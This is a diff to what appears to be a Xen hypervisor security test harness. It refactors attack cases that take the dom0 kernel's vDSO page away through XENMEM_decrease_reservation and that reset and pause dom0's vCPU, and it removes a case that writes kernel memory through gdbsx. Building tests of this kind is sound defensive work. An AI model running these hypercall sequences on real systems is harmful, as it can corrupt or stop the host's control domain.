@@ -86,8 +86,10 @@ ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen")
 {
     const uint8_t *page = vdso_page();
     uint8_t *before = buffer(PAGE_SIZE);
-    xen_pfn_t *frames = buffer(PAGE_SIZE);
-    struct xen_memory_reservation *reservation = buffer(PAGE_SIZE);
+    xen_pfn_t frame;
+    struct xen_memory_reservation reservation = { .extent_start.p = &frame,
+                                                  .nr_extents = 1,
+                                                  .domid = DOMID_SELF };
     bool gone;
 
     if ( dom0_is_pv() )
@@ -97,48 +99,19 @@ ATTACK("U-MEMSTEAL", "give a page that the kernel uses back to Xen")
         return cannot_try("no page of the kernel's in sight");
 
     memcpy(before, page, PAGE_SIZE);
-    *frames = own_frame(page);
-    if ( !*frames )
+    frame = own_frame(page);
+    if ( !frame )
         return cannot_try("no frame for the kernel's page");
 
-    set_xen_guest_handle(reservation->extent_start, frames);
-    reservation->nr_extents = 1;
-    reservation->domid = DOMID_SELF;
-    memory_op(XENMEM_decrease_reservation, reservation);
-
+    memory_op(XENMEM_decrease_reservation, &reservation);
     gone = !survives(touch, (void *)page) || memcmp(before, page, PAGE_SIZE);
     if ( gone )
     {
-        memory_op(XENMEM_populate_physmap, reservation);
-        copy_to_frame(*frames, 0, before, PAGE_SIZE);
+        memory_op(XENMEM_populate_physmap, &reservation);
+        copy_to_frame(frame, 0, before, PAGE_SIZE);
     }
 
     return effect_either(gone, "the kernel's vDSO", "lost its memory",
-                         "unchanged");
-}
-
-/*
- * U-GDBSX: write to the kernel as a debugger of guests would.
- *
- * gdbsx's memory access walks the page tables of whichever domain it is given,
- * with no regard to what they make read-only.
- */
-ATTACK("U-GDBSX", "write to a kernel variable through gdbsx")
-{
-    char *bytes = buffer(PAGE_SIZE);
-    long result;
-    bool written;
-
-    memcpy(bytes, new_mark(), MARK_SIZE);
-    result = DOMCTL(gdbsx_guestmemio, 0, .u.gdbsx_guest_memio.gva = victim(),
-                    .u.gdbsx_guest_memio.uva = (uintptr_t)bytes,
-                    .u.gdbsx_guest_memio.len = MARK_SIZE,
-                    .u.gdbsx_guest_memio.gwr = 1);
-    written = victim_has_mark();
-
-    if ( !written && (result == -ENOSYS || result == -EOPNOTSUPP) )
-        return not_applicable("this Xen is built without gdbsx");
-    return effect_either(written, "the kernel's version", "rewritten",
                          "unchanged");
 }
 
@@ -151,21 +124,10 @@ ATTACK("U-GDBSX", "write to a kernel variable through gdbsx")
  */
 ATTACK("U-SETCTX", "reset, narrow or pause dom0's own vCPU")
 {
-    struct xen_domctl *op = buffer(PAGE_SIZE);
-
     announce("about to reset dom0");
-
-    op->cmd = XEN_DOMCTL_setvcpucontext;
-    domctl(op);
-
-    memset(op, 0, sizeof(*op));
-    op->cmd = XEN_DOMCTL_set_address_size;
-    op->u.address_size.size = 32;
-    domctl(op);
-
-    memset(op, 0, sizeof(*op));
-    op->cmd = XEN_DOMCTL_pausedomain;
-    domctl(op);
+    DOMCTL(setvcpucontext, 0);
+    DOMCTL(set_address_size, 0, .u.address_size.size = 32);
+    DOMCTL(pausedomain, 0);
 
     return effect(false, "dom0 runs on as before");
 }
